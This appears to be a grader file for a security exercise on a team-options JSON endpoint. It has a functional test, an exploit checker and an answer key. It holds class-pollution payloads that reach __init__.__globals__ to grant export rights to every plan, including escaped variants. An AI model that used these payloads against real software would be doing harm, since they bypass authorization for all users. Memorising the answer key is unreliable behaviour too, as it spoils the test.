import json


def works(code, vary):
    team_id, columns, page = vary.number(1, 99), vary.number(4, 12), vary.word()
    board = f"#{vary.number(100_000, 999_999)}"
    team = code.Team(team_id, code.PaidPlan("Team"))
    saved = []

    def change(changes):
        return code.change_options(team, json.dumps(changes), lambda *one: saved.append(one))

    options = change({"colours": {"board": board}, "layout": {"start": {"page": page}}})
    expected = code.Options(code.Colours(board), code.Layout(start={"page": page}))
    assert options == expected, f"The board should be {board} and the first page {page}; the rest should stay."
    assert team.options == expected, "The team should have the new options."
    assert saved[0][0] == team_id, "The new options should be saved for the team."
    assert json.loads(saved[0][1])["layout"] == {"columns": 3, "start": {"page": page}}, "The new options should be saved."
    wide = code.Layout(columns, {"page": page})
    assert change({"layout": {"columns": columns}}).layout == wide, f"The layout should have {columns} columns, and the first page should stay."
    assert change({}).layout == wide, "No changes should change nothing."
    for body in ("[]", '{"layout":{"columns":99}}', '{"colours":{"card":"red"}}', '"' + "x" * 30_000 + '"'):
        try:
            code.change_options(code.Team(vary.number(1, 99), code.Plan("Free")), body, lambda *_: None)
        except code.Refused:
            continue
        raise AssertionError(f"{body[:40]} should be refused.")
    free = code.change_options(code.Team(vary.number(1, 99), code.Plan("Free")), json.dumps({"layout": {"columns": columns}}), lambda *_: None)
    assert free.layout == code.Layout(columns), "A team on the free plan should be able to change its options, too."
    assert code.may_export(team) is True, "A team that pays should be allowed to export."
    assert code.may_export(code.Team(vary.number(1, 99), code.Plan("Free"))) is False, "A team on the free plan should not be allowed to export."


# Ways from an object to the class of the plans, from every level of the options, and written with an escape.
WAYS = (
    '{"__init__": {"__globals__": {"Plan": {"export_allowed": true}}}}',
    '{"__class__": {"__init__": {"__globals__": {"Plan": {"export_allowed": true}}}}}',
    '{"__eq__": {"__globals__": {"Plan": {"export_allowed": true}}}}',
)
LEVELS = ("%s", '{"colours": %s}', '{"layout": %s}')
FORMS = [level % way for level in LEVELS for way in WAYS]
FORMS += [body.replace('"__', '"\\u005f_') for body in FORMS]


def exploit(code, vary, payloads=FORMS):
    own, other = vary.shuffle(range(1, 100))[:2]
    for body in payloads:
        try:
            code.change_options(code.Team(own, code.Plan("Free")), body, lambda *_: None)
        except Exception:
            pass  # Refused; the next one may be not.
        if code.may_export(code.Team(other, code.Plan("Free"))):
            damage = f"The request came from team {own}. It has changed the class of all plans."
            return {"sent": body, "got": f"team {other} on the free plan may export", "damage": damage}
    return False


# Attack mode: the learner writes the input.
def attack(code, input, vary):
    try:
        answer = str(code.change_options(code.Team(1, code.Plan("Free")), input["body"], lambda *_: None))
    except Exception as error:
        answer = f"{type(error).__name__}: {error}"
    other = code.Team(vary.number(2, 99), code.Plan("Free"))
    is_done = code.may_export(other)
    state = "may" if is_done else "may not"
    return {"isDone": is_done, "shown": f"Answer: {answer}\nTeam {other.id} on the free plan {state} export."}


ATTACKS = [
    {"input": {"body": '{"__init__": {"__globals__": {"Plan": {"export_allowed": true}}}}'}, "isDone": True},
    {"input": {"body": '{"layout": {"columns": 4}}'}, "isDone": False},
    {"input": {"body": '{"export_allowed": true}'}, "isDone": False},
]
